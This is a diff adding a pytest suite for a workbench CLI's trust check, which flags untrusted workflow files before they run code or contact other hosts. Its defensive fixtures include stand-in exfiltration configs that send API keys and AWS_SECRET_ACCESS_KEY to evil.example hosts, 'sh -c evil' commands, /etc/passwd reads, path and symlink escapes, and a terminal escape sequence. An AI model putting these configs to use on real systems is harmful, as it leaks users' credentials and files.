@@ -1,0 +1,304 @@
+"""A file from elsewhere is asked about once before it runs Python, starts programs, sends variables or reads beyond its
+folder."""
+
+from __future__ import annotations
+
+import json
+import os
+import pty
+import select
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from click.testing import CliRunner, Result
+
+from workbench.cli import cli, trust
+from workbench.cli.powers import file_powers
+from workbench.errors import SpecError
+
+PAYLOAD = "open('RAN', 'w').close()\ndef score(example, prediction, trace=None):\n    return 1.0\n"
+PLAIN: dict[str, Any] = {
+    "name": "plain",
+    "lm": "bundled/nano",
+    "data": {"file": "rows.jsonl", "split": {"train": 3, "val": 3, "test": 3}},
+    "metric": "exact_match(label)",
+    "nodes": {"sort": {"predict": "text -> label"}},
+    "optimize": [{"random": {"trials": 1}}],
+    "budget": {"calls": 40},
+}
+#: Changes of the plain file, and what each is asked about.
+ATTACKS: dict[str, tuple[dict[str, Any], str]] = {
+    "metric": ({"metric": "python:code.py:score"}, "runs Python: python:code.py:score"),
+    "tool": ({"nodes": {"n": {"tool": "python:code.py:score"}}}, "runs Python: python:code.py:score"),
+    "module": ({"metric": "python:code.score"}, "runs Python: python:code.score"),
+    "world": (
+        {"nodes": {"n": {"search_actions": "", "environment": "gymnasium", "settings": {"id": "code:World-v0"}}}},
+        "runs Python: code:World-v0",
+    ),
+    "reward": ({"optimize": [{"grpo": {"rewards": [{"kind": "python:code.py:score"}]}}]}, "runs Python"),
+    "alternative": (
+        {"search": {"nodes.sort": {"any_of": {"other": {"tool": "python:code.py:score"}}}}},
+        "runs Python: python:code.py:score",
+    ),
+    "server": ({"nodes": {"n": {"tool": "mcp:sh -c evil#t"}}}, "starts a program: sh -c evil"),
+    "command": ({"optimize": [{"grpo": {"managed": {"command": "sh -c evil"}}}]}, "starts a program: sh -c evil"),
+    "arguments": (
+        {"optimize": [{"grpo": {"managed": {"arguments": ["--tool-parser-plugin", "evil.py"]}}}]},
+        "starts a program: vllm serve --tool-parser-plugin evil.py",
+    ),
+    "key": (
+        {"lm": {"model": "openai/x", "api_base": "https://evil.example/v1", "api_key_env": "OTHER_KEY"}},
+        "sends a variable of the environment: OTHER_KEY to evil.example",
+    ),
+    "header": (
+        {
+            "roles": {
+                "judge": {
+                    "model": "x/y",
+                    "api_base": "http://127.0.0.1.evil.example/v1",
+                    "extra": {"headers": {"X": "a ${AWS_SECRET_ACCESS_KEY}"}},
+                }
+            }
+        },
+        "AWS_SECRET_ACCESS_KEY to 127.0.0.1.evil.example",
+    ),
+    "node's model": (
+        {
+            "nodes": {
+                "sort": {
+                    "predict": "text -> label",
+                    "lm": {"model": "openai/x", "api_base": "http://evil.example", "api_key_env": "K"},
+                }
+            }
+        },
+        "K to evil.example",
+    ),
+    "rows": ({"data": {"file": "csv:/etc/passwd"}}, "reads outside its folder: csv:/etc/passwd"),
+    "rows above": ({"data": {"train": "rows.jsonl", "val": "rows.jsonl", "test": "../rows.jsonl"}}, "../rows.jsonl"),
+    "rows of a plugin's reader": ({"data": {"file": "s3:bucket/rows"}}, "reads outside its folder: s3:bucket/rows"),
+    "linked rows": ({"data": {"file": "link.jsonl"}}, "reads outside its folder: link.jsonl"),
+    "databases": (
+        {"nodes": {"n": {"search_actions": "", "environment": "sql", "settings": {"folder": "/etc"}}}},
+        "reads outside its folder: /etc",
+    ),
+    "file referred to": (
+        {"nodes": {"n": {"agent": "text -> label", "functions": "inner/other.yaml#nodes.n"}}},
+        "runs Python: python:deep.py:score",
+    ),
+}
+RUNS = [["optimize"], ["eval"], ["run", "--example", "0"], ["estimate"]]
+
+
+@pytest.fixture
+def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """The current folder: a stranger's files. Nothing is trusted."""
+    monkeypatch.delenv("WORKBENCH_TRUST")
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    found = tmp_path / "found"
+    (found / "inner").mkdir(parents=True)
+    for place in ("code.py", "inner/deep.py"):
+        (found / place).write_text(PAYLOAD)
+    rows = "".join(json.dumps({"text": f"t{i}", "label": "a"}) + "\n" for i in range(9))
+    (found / "rows.jsonl").write_text(rows)
+    (tmp_path / "rows.jsonl").write_text(rows)
+    (found / "link.jsonl").symlink_to(tmp_path / "rows.jsonl")
+    inner = {**PLAIN, "nodes": {"n": {"tool": "python:deep.py:score"}}}
+    (found / "inner/other.yaml").write_text(yaml.safe_dump(inner))
+    monkeypatch.chdir(found)
+    return found
+
+
+def write(**changes: Any) -> Path:
+    Path("workflow.yaml").write_text(yaml.safe_dump({**PLAIN, **changes}, sort_keys=False))
+    return Path("workflow.yaml")
+
+
+def invoke(*words: str, answer: str | None = None) -> Result:
+    return CliRunner().invoke(cli, list(words), input=answer)
+
+
+@pytest.mark.parametrize("name", ATTACKS)
+def test_each_power_is_found_without_running_anything(folder: Path, name: str) -> None:
+    changes, line = ATTACKS[name]
+    assert line in "\n".join(file_powers(write(**changes)).lines())
+    assert not (folder / "RAN").exists()
+
+
+@pytest.mark.parametrize("name", ATTACKS)
+def test_nobody_is_asked_where_nobody_is_there(folder: Path, name: str) -> None:
+    write(**ATTACKS[name][0])
+    for words in RUNS:
+        result = invoke(words[0], "workflow.yaml", *words[1:])
+        assert isinstance(result.exception, SpecError) and "is not trusted yet" in str(result.exception), result.output
+    assert sorted(p.name for p in folder.iterdir()) == ["code.py", "inner", "link.jsonl", "rows.jsonl", "workflow.yaml"]
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {},
+        {"lm": {"model": "openai/x", "api_key_env": "OPENAI_API_KEY"}},
+        {"lm": {"model": "openai/x", "api_base": "http://127.0.0.1:8000/v1", "api_key_env": "KEY"}},
+        {"lm": {"model": "openai/x", "api_base": "https://example.org/v1", "extra": {"headers": {"X": "plain"}}}},
+        {
+            "nodes": {
+                "n": {"predict": "text -> label", "instructions": "Read ../../ and / and mcp servers.\n/etc/passwd"}
+            }
+        },
+        {"data": {"file": "./inner/../rows.jsonl"}},
+        {"nodes": {"n": {"agent": "text -> label", "functions": "workflow.yaml#nodes.n"}}},
+    ],
+)
+def test_what_only_asks_its_models_is_not_asked_about(folder: Path, changes: dict[str, Any]) -> None:
+    assert file_powers(write(**changes)).lines() == []
+
+
+def test_a_file_is_trusted_as_it_is_and_asked_about_again_when_it_changes(folder: Path) -> None:
+    write(metric="python:code.py:score")
+    shown = invoke("trust", "workflow.yaml")
+    assert shown.exit_code == 0 and "runs Python: python:code.py:score" in shown.output
+    assert not (folder / "RAN").exists(), "trusting runs nothing"
+    assert invoke("eval", "workflow.yaml").exit_code == 0 and (folder / "RAN").exists()
+    write(metric="python:code.py:score", seed=3)
+    assert "not trusted" in str(invoke("eval", "workflow.yaml").exception)
+    assert invoke("trust", "workflow.yaml").exit_code == invoke("eval", "workflow.yaml").exit_code == 0
+    (folder / "code.py").write_text(PAYLOAD + "# other\n")
+    assert "not trusted" in str(invoke("eval", "workflow.yaml").exception), "the Python that it names counts"
+
+
+def test_a_folder_is_trusted_whatever_changes_in_it_until_it_is_forgotten(folder: Path) -> None:
+    write(metric="python:code.py:score")
+    assert invoke("trust", "--folder", ".").exit_code == 0
+    write(metric="python:code.py:score", seed=4)
+    assert invoke("eval", "workflow.yaml").exit_code == 0
+    listed = json.loads(invoke("trust", "--json").output)
+    assert listed == {"files": [], "folders": [str(folder)]}
+    assert invoke("trust", "--forget", ".").exit_code == 0
+    assert "not trusted" in str(invoke("eval", "workflow.yaml").exception)
+    assert invoke("trust", "--forget", ".").exit_code == 2
+    assert invoke("trust").output == "Nothing is trusted yet.\n"
+
+
+def test_the_variable_trusts_folders(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    write(metric="python:code.py:score")
+    monkeypatch.setenv("WORKBENCH_TRUST", f"/nowhere{os.pathsep}{folder.parent}")
+    assert invoke("eval", "workflow.yaml").exit_code == 0
+    monkeypatch.setenv("WORKBENCH_TRUST", str(folder) + "x")
+    assert "not trusted" in str(invoke("eval", "workflow.yaml").exception), "a folder, not a beginning of its name"
+
+
+@pytest.mark.parametrize(
+    ("answer", "runs", "again"), [("no\n", False, False), ("yes\n", True, False), ("folder\n", True, True)]
+)
+def test_the_user_is_asked_once(
+    folder: Path, monkeypatch: pytest.MonkeyPatch, answer: str, runs: bool, again: bool
+) -> None:
+    monkeypatch.setattr(trust, "_somebody_is_there", lambda: True)
+    write(metric="python:code.py:score")
+    first = invoke("eval", "workflow.yaml", answer=answer)
+    assert "runs Python: python:code.py:score" in first.output
+    assert (folder / "RAN").exists() == (first.exit_code == 0) == runs
+    assert (invoke("eval", "workflow.yaml", answer="no\n").exit_code == 0) == runs
+    write(metric="python:code.py:score", seed=5)
+    assert (invoke("eval", "workflow.yaml", answer="no\n").exit_code == 0) == again
+
+
+def test_a_terminal_is_asked_and_sees_no_escapes(folder: Path) -> None:
+    write(
+        metric="python:code.py:score",
+        nodes={"sort": {"predict": "text -> label"}, "n": {"tool": "mcp:sh \x1b]52;c;x\x07#t"}},
+    )
+    ours, theirs = pty.openpty()
+    job = subprocess.Popen(
+        [sys.executable, "-m", "workbench", "eval", "workflow.yaml"], stdin=theirs, stdout=theirs, stderr=theirs
+    )
+    os.close(theirs)
+    seen, answered = b"", False
+    try:
+        while select.select([ours], [], [], 60)[0] and (part := os.read(ours, 4096)):
+            seen += part
+            if not answered and b"[no]:" in seen:  # what is typed ahead may be dropped
+                os.write(ours, b"no\n")
+                answered = True
+    except OSError:  # the end of a pty
+        pass
+    os.close(ours)
+    assert job.wait(60) == 2
+    assert b"Trust it?" in seen and b"is not trusted" in seen and b"\x1b]52" not in seen
+    assert not (folder / "RAN").exists()
+
+
+def test_a_result_is_trusted_as_the_file_that_it_comes_from(folder: Path) -> None:
+    write(metric="python:code.py:score")
+    invoke("trust", "workflow.yaml")
+    for out in ("best.yaml", "results/best.yaml"):
+        done = invoke("optimize", "workflow.yaml", "--keep-unproved", "--out", out)
+        assert done.exit_code == 0, done.output
+        assert invoke("eval", out).exit_code == 0
+
+
+def test_a_result_that_does_more_than_its_file_is_asked_about(folder: Path) -> None:
+    """One that an optimizer gave a tool of its own, e.g."""
+    more = {"metric": "python:code.py:score", "nodes": {"n": {"tool": "mcp:true#t"}}}
+    Path("best.yaml").write_text(yaml.safe_dump({**PLAIN, **more}))
+    trust.trust_result(write(metric="python:code.py:score"), Path("best.yaml"))
+    assert "not trusted" in str(invoke("eval", "best.yaml").exception)
+
+
+def test_resuming_a_run_of_elsewhere_is_asked_about(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    write(metric="python:code.py:score")
+    monkeypatch.setenv("WORKBENCH_TRUST", "/")
+    assert invoke("optimize", "workflow.yaml").exit_code == 0
+    (folder / "RAN").unlink()
+    monkeypatch.setenv("WORKBENCH_TRUST", "")
+    refused = invoke("resume", "last")
+    assert "is not trusted yet" in str(refused.exception) and not (folder / "RAN").exists()
+    invoke("trust", "workflow.yaml")
+    assert invoke("resume", "last").exit_code == 0, "the same content as the file"
+
+
+def test_flags_of_a_stored_run_count(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Somebody else gave them."""
+    write()
+    monkeypatch.setenv("WORKBENCH_TRUST", "/")
+    assert invoke("optimize", "workflow.yaml", "--set", "metric=python:code.py:score").exit_code == 0
+    monkeypatch.setenv("WORKBENCH_TRUST", "")
+    assert "runs Python: python:code.py:score" in str(invoke("resume", "last").exception)
+    assert invoke("trust", "workflow.yaml").exit_code == 0
+    assert "is not trusted yet" in str(invoke("resume", "last").exception)
+
+
+def test_a_broken_list_is_told(folder: Path) -> None:
+    write(metric="python:code.py:score")
+    listed = folder.parent / "config/workbench/trusted.json"
+    listed.parent.mkdir(parents=True)
+    listed.write_text('{"files": []}')
+    assert "cannot be read" in str(invoke("eval", "workflow.yaml").exception)
+
+
+@pytest.mark.parametrize("name", [name for name in ATTACKS if "rows" not in name])
+def test_validate_runs_and_starts_nothing(folder: Path, name: str) -> None:
+    write(**ATTACKS[name][0])
+    invoke("validate", "workflow.yaml")
+    invoke("show", "workflow.yaml", "--mermaid")
+    invoke("functions", "list", "workflow.yaml")
+    invoke("functions", "test", "workflow.yaml")
+    assert not (folder / "RAN").exists()
+
+
+def test_validate_checks_python_by_its_source(folder: Path) -> None:
+    write(metric="python:code.py:score")
+    assert invoke("validate", "workflow.yaml").exit_code == 0 and not (folder / "RAN").exists()
+    assert invoke("validate", "--run-code", "workflow.yaml").exit_code == 0 and (folder / "RAN").exists()
+    for text, message in [
+        ("def scored(a, b): pass", "has no function 'score'. Did you mean 'scored'?"),
+        ("def score(a, b, c, d): pass", "needs 4 arguments"),
+        ("def score(:", "code.py:1:11"),
+    ]:
+        (folder / "code.py").write_text(text)
+        found = " ".join(str(invoke("validate", "workflow.yaml").exception).split())
+        assert message.replace(".", "") in found.replace(".", ""), found
